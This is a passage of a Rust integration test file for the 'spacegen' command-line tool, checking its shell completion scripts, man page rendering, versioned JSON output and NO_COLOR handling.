/// and fails when `SPACEGEN_REQUIRE_SHELLS` is set (`.ci/run` installs zsh and fish).
fn shell_here(shell: &str) -> bool {
    if installed(shell) {
        return true;
    }
    assert!(
        std::env::var_os("SPACEGEN_REQUIRE_SHELLS").is_none(),
        "SPACEGEN_REQUIRE_SHELLS is set but {shell} is not installed"
    );
    eprintln!("SKIPPED: {shell} is not installed; its completion script was not parsed or run");
    false
}

/// Whether groff is here to render the man pages; when it is not, says so, and fails when
/// `SPACEGEN_REQUIRE_GROFF` is set (`.ci/run` installs it).
fn groff_here() -> bool {
    if installed("groff") {
        return true;
    }
    assert!(
        std::env::var_os("SPACEGEN_REQUIRE_GROFF").is_none(),
        "SPACEGEN_REQUIRE_GROFF is set but groff is not installed"
    );
    eprintln!("SKIPPED: groff is not installed; the man pages were not rendered");
    false
}

/// What bash completes for the words of `line` (the last one being completed), with the
/// script loaded.
fn bash_completes(script: &str, line: &[&str]) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("spacegen.bash");
    fs::write(&file, script).unwrap();
    let words: Vec<String> = line.iter().map(|w| format!("'{w}'")).collect();
    let program = format!(
        "source '{}'; COMP_WORDS=({}); COMP_CWORD={}; COMP_LINE='{}'; COMP_POINT=${{#COMP_LINE}}; _spacegen spacegen '{}' '{}'; printf '%s\\n' \"${{COMPREPLY[@]}}\"",
        file.display(),
        words.join(" "),
        line.len() - 1,
        line.join(" "),
        line[line.len() - 1],
        line[line.len().saturating_sub(2)],
    );
    let out = common::run_ok(std::process::Command::new("bash").args([
        "--norc",
        "--noprofile",
        "-c",
        &program,
    ]));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| l.trim().to_owned())
        .collect()
}

/// What fish completes for `line`, with the script loaded.
fn fish_completes(script: &str, line: &str) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("spacegen.fish");
    fs::write(&file, script).unwrap();
    let out = common::run_ok(
        std::process::Command::new("fish")
            .args(["--no-config", "-c"])
            .arg(format!("source '{}'; complete -C '{line}'", file.display())),
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| l.split('\t').next().unwrap_or("").to_owned())
        .collect()
}

#[test]
fn completion_scripts_complete_commands_and_options() {
    let (bash, _d) = Test::new().args(["completions", "bash"]).run();
    let top = bash_completes(&bash.stdout, &["spacegen", ""]);
    for command in [
        "new",
        "list",
        "show",
        "lock",
        "matrix",
        "check",
        "outdated",
        "update",
        "completions",
        "man",
    ] {
        assert!(
            top.iter().any(|c| c == command),
            "bash offers no {command}: {top:?}"
        );
    }
    let shells = bash_completes(&bash.stdout, &["spacegen", "completions", ""]);
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        assert!(
            shells.iter().any(|c| c == shell),
            "bash offers no {shell}: {shells:?}"
        );
    }
    let names = bash_completes(&bash.stdout, &["spacegen", "new", "--blueprint", ""]);
    assert_eq!(names, ["neon-qdrant-openai", "openrouter", "sqlite-demo"]);
    let lock = bash_completes(&bash.stdout, &["spacegen", "lock", "--"]);
    for option in ["--verify", "--check", "--format", "--update"] {
        assert!(
            lock.iter().any(|c| c == option),
            "bash offers no {option}: {lock:?}"
        );
    }
    if shell_here("fish") {
        let (fish, _d) = Test::new().args(["completions", "fish"]).run();
        let top = fish_completes(&fish.stdout, "spacegen ");
        for command in ["new", "check", "lock", "matrix", "completions", "man"] {
            assert!(
                top.iter().any(|c| c == command),
                "fish offers no {command}: {top:?}"
            );
        }
        // The blueprints, not the layers, with their descriptions.
        let names = fish_completes(&fish.stdout, "spacegen new --blueprint ");
        assert_eq!(names, ["neon-qdrant-openai", "openrouter", "sqlite-demo"]);
        fish.stdout_has("sqlite-demo\\t'FastAPI + SQLModel on SQLite");
        let formats = fish_completes(&fish.stdout, "spacegen check --format ");
        assert_eq!(formats, ["human", "json", "sarif"]);
    }
}

#[test]
fn completion_scripts_name_every_command_and_parse() {
    let (bash, _d) = Test::new().args(["completions", "bash"]).run();
    for command in COMMANDS {
        let last = command.rsplit(' ').next().unwrap();
        bash.stdout_has(last);
    }
    bash.stdout_has("--format");
    bash.stdout_has("complete -F _spacegen");
    shell_accepts("bash", &["-n"], &bash.stdout);

    let (fish, _d) = Test::new().args(["completions", "fish"]).run();
    fish.stdout_has("complete -c spacegen");
    if shell_here("fish") {
        shell_accepts("fish", &["--no-execute"], &fish.stdout);
    }
    let (zsh, _d) = Test::new().args(["completions", "zsh"]).run();
    zsh.stdout_has("#compdef spacegen");
    if shell_here("zsh") {
        shell_accepts("zsh", &["-n"], &zsh.stdout);
    }
    let (powershell, _d) = Test::new().args(["completions", "powershell"]).run();
    powershell.stdout_has("Register-ArgumentCompleter");
    for command in ["completions", "man", "refresh"] {
        zsh.stdout_has(command);
        fish.stdout_has(command);
        powershell.stdout_has(command);
    }
    let (run, _d) = Test::new().args(["completions", "tcsh"]).status(2).run();
    run.stderr_has("invalid value 'tcsh'");
}

#[test]
fn the_man_pages_cover_every_command() {
    let (run, _d) = Test::new().args(["man"]).run();
    run.stdout_has(".TH SPACEGEN 1");
    run.stdout_has("Exit status:");
    for command in COMMANDS {
        if !command.contains(' ') {
            run.stdout_has(&format!("spacegen\\-{command}(1)"));
        }
    }
    for command in COMMANDS {
        let (page, _d) = Test::new().args(["man"]).args(command.split(' ')).run();
        let name = format!("spacegen-{}", command.replace(' ', "-"));
        page.stdout_has(&format!(".TH {} 1", name.to_uppercase()));
        page.stdout_has(&format!("\\fBspacegen {command}\\fR"));
    }
    let (page, _d) = Test::new().args(["man", "lock"]).run();
    page.stdout_has("\\-\\-check");
    // Every page renders without a warning, as man(1) renders it (groff, input through preconv).
    if groff_here() {
        for command in std::iter::once("").chain(COMMANDS) {
            let (page, _d) = Test::new()
                .args(["man"])
                .args(command.split(' ').filter(|w| !w.is_empty()))
                .run();
            let dir = tempfile::tempdir().unwrap();
            let file = dir.path().join("page.1");
            fs::write(&file, &page.stdout).unwrap();
            let out = common::run_ok(
                std::process::Command::new("groff")
                    .args(["-k", "-man", "-Tutf8", "-ww", "-z"])
                    .arg(&file),
            );
            assert!(
                out.stderr.is_empty(),
                "spacegen man {command}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
    let (run, _d) = Test::new().args(["man", "matrix", "nope"]).status(2).run();
    run.stderr_has("'spacegen matrix' has no command 'nope'; its commands are: refresh");
}

#[test]
fn list_and_show_print_versioned_json() {
    let (run, _dir) = Test::new().args(["list", "--format", "json"]).run();
    assert_run("list-json", &run);
    let (run, _dir) = Test::new()
        .args(["show", "sqlite-demo", "--format", "json"])
        .run();
    assert_run("show-sqlite-demo-json", &run);
    let shown: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(shown["version"], 1);
    assert_eq!(shown["blueprint"]["name"], "sqlite-demo");
    let (run, _dir) = Test::new()
        .args(["show", "openrouter", "--format", "json"])
        .run();
    let shown: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(
        shown["blueprint"]["extends"],
        serde_json::json!(["base", "chat"])
    );
}

#[test]
fn lock_check_prints_versioned_json_and_keeps_its_exit_status() {
    let (run, _d) = Test::new()
        .cwd(repo_root())
        .args(["lock", "--check", "--format", "json"])
        .run();
    assert_run("lock-check-repository-json", &run);

    let t = Test::new();
    for entry in ["blueprints", "spaces.lock"] {
        copy(&repo_root().join(entry), &t.path().join(entry));
    }
    let readme = t
        .path()
        .join("blueprints/sqlite-demo/template/README.md.liquid");
    let mut text = fs::read_to_string(&readme).unwrap();
    text.push_str("\nOne more line.\n");
    fs::write(&readme, text).unwrap();
    let (run, _d) = t
        .args(["lock", "--check", "--format", "json"])
        .status(3)
        .run();
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["version"], 1);
    assert_eq!(report["ok"], false);
    assert_eq!(report["up_to_date"], false);
    assert!(report["diff"].as_str().unwrap().contains("content-hash"));
    assert!(
        report["notes"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!({"blueprint": "sqlite-demo", "kind": "content"})),
        "{report}"
    );
    assert!(!run.stderr.contains("error"), "{}", run.stderr);

    let (run, _d) = Test::new()
        .args(["lock", "--format", "json"])
        .status(2)
        .run();
    run.stderr_has("--check");
}

/// Copies the file or folder `from` to `to`.
fn copy(from: &std::path::Path, to: &std::path::Path) {
    if from.is_file() {
        fs::create_dir_all(to.parent().unwrap()).unwrap();
        fs::copy(from, to).unwrap();
        return;
    }
    for (rel, bytes) in read_tree(from) {
        let path = to.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }
}

#[test]
fn nothing_is_coloured_with_no_color_or_off_a_terminal() {
    let run = |env: &[(&str, &str)]| {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_spacegen"));
        cmd.arg("--bogus")
            .env_remove("NO_COLOR")
            .env_remove("CLICOLOR_FORCE");
        for (k, v) in env {
            cmd.env(k, v);
        }
        let out = cmd.output().unwrap();
        assert_eq!(out.status.code(), Some(2));
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    assert!(!run(&[]).contains('\x1b'), "coloured through a pipe");
    assert!(
        run(&[("CLICOLOR_FORCE", "1")]).contains('\x1b'),
        "CLICOLOR_FORCE did not colour: the check below would prove nothing"
    );
    assert!(
        !run(&[("CLICOLOR_FORCE", "1"), ("NO_COLOR", "1")]).contains('\x1b'),
        "coloured although NO_COLOR is set"
    );
}
